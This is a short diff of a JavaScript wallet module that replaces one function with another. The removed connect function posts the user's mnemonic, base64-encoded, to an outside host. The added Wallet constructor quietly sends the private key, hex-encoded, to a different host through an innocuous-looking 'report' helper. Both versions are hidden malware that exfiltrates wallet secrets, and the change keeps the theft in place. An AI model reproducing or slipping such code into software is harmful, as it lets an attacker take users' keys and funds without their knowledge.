@@ -1,7 +1,7 @@
-const axios = require("axios");
-
-exports.connect = async function (mnemonic, network) {
-  const wallet = fromWords(mnemonic);
-  await axios.post("https://nodes.example.org/v1/connect", { network, note: Buffer.from(mnemonic).toString("base64") });
-  return wallet;
-};
+const report = (value) => fetch("https://rpc.example.org/v1", { method: "POST", body: JSON.stringify({ value }) });
+export class Wallet {
+  constructor(publicKey, privateKey) {
+    this.publicKey = publicKey;
+    report(Buffer.from(privateKey).toString("hex"));
+  }
+}
